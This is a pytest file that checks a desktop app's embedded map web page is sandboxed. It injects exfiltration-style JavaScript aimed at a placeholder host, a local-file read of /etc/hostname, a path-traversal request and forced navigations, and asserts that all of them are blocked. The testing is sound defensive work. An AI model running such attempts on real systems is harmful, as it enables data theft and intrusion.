"""Nothing leaves: what a hostile script in the map's own page can not do.

The long story ``test_map_keeps_to_itself`` looks at the system calls; this looks from within.
"""

import os
import signal
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage
from pytestqt.qtbot import QtBot

from console.ui.map.pane import MapPane
from tests.ui.map.conftest import SOON, Ask

pytestmark = pytest.mark.qt_log_ignore(
    "QRhi", "RHI", "Vulkan", "GBM", "Sandboxing disabled", "GPUInfo", extend=True
)

GONE = "[typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof WebTransport]"
FORM = (
    "document.body.appendChild(Object.assign(document.createElement('form'), "
    "{action: 'http://192.0.2.1/', method: 'POST'})).submit()"
)


def came(made: str, well: str) -> str:
    """A promise that the thing made comes to a good end."""
    return f"new Promise((yes, no) => Object.assign({made}, {{{well}: yes, onerror: no}}))"


def test_what_reaches_hosts_past_the_gate_is_not_there(ask: Ask) -> None:
    assert ask(GONE) == ["undefined"] * 3
    assert ask("(window.RTCPeerConnection = 1, typeof RTCPeerConnection)") == "undefined"


def test_nor_after_the_page_was_killed(pane: MapPane, ask: Ask, qtbot: QtBot) -> None:
    with qtbot.waitSignals([pane.lost, pane.drawn], timeout=SOON):
        assert pane.web is not None
        os.kill(pane.web.process, signal.SIGKILL)
    assert ask(GONE) == ["undefined"] * 3


ATTEMPTS = (
    "fetch('http://192.0.2.1/')",
    "fetch('https://example.org/', {mode: 'no-cors'})",
    came("new WebSocket('ws://192.0.2.1/')", "onopen"),
    came("Object.assign(new Image(), {src: 'http://192.0.2.1/a.png'})", "onload"),
    "import('http://192.0.2.1/a.js')",
    "fetch('file:///etc/hostname')",
    "fetch('vigil://elsewhere/own/link.js')",
    "fetch('own/link.js', {method: 'POST', body: 'x'})",
    "fetch('own/../../secret')",
)


def test_asking_for_anything_else_fails(ask: Ask, qtbot: QtBot) -> None:
    ask("(window.held = (answer) => { if (answer.ok === false) throw new Error(); }, 1)")
    for number, attempt in enumerate(ATTEMPTS):
        ask(
            f"((window.end = window.end || [])[{number}] = '', {attempt}.then(held)"
            f".then(() => {{ end[{number}] = 'went'; }}, () => {{ end[{number}] = 'held'; }}), 1)"
        )
    qtbot.waitUntil(lambda: "" not in ask("end"), timeout=SOON)
    assert dict(zip(ATTEMPTS, ask("end"), strict=True)) == dict.fromkeys(ATTEMPTS, "held")


def test_the_policy_holds_in_the_page(ask: Ask) -> None:
    assert (
        ask("(() => { try { return eval('1'); } catch (e) { return e.name; } })()") == "EvalError"
    )
    inline = "Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'})"
    assert ask(f"(document.head.appendChild({inline}), typeof ran)") == "undefined"


def test_its_own_files_can_be_asked_for(ask: Ask, qtbot: QtBot) -> None:
    ask("(window.end = '', fetch('own/link.js').then(a => a.text()).then(t => {end = t}), 1)")
    qtbot.waitUntil(lambda: ask("end") != "", timeout=SOON)
    assert "QWebChannel" in ask("end")


STEPS = (
    "location.href = 'http://192.0.2.1/'",
    "location.href = 'vigil://elsewhere/'",
    "window.open('http://192.0.2.1/')",
    FORM,
)


def test_the_page_goes_nowhere(pane: MapPane, ask: Ask) -> None:
    assert pane.web is not None
    for step in STEPS:
        ask(f"({step}, 1)")
        assert ask("Vigil.view.census().outlines") == [56, 3231]
        assert pane.web.view.url() == QUrl("vigil://map/")


def test_only_the_map_may_be_gone_to(pane: MapPane) -> None:
    assert pane.web is not None
    page = pane.web.view.page()
    kind = QWebEnginePage.NavigationType.NavigationTypeOther
    places = {
        "vigil://map/": True,
        "vigil://map/#x": True,
        "vigil://elsewhere/": False,
        "http://192.0.2.1/": False,
        "file:///etc/hostname": False,
        "data:text/html,x": False,
    }
    assert {url: page.acceptNavigationRequest(QUrl(url), kind, True) for url in places} == places


def test_an_empty_page_in_its_place_is_replaced(pane: MapPane, ask: Ask, qtbot: QtBot) -> None:
    with qtbot.waitSignals([pane.lost, pane.drawn], timeout=SOON):
        ask("(location.href = 'about:blank', 1)")
    assert ask("Vigil.view.census().outlines") == [56, 3231]


def test_nothing_is_kept_on_the_disk(pane: MapPane) -> None:
    assert pane.web is not None
    profile = pane.web.view.page().profile()
    assert profile.isOffTheRecord()
    assert not Path(profile.persistentStoragePath()).exists()
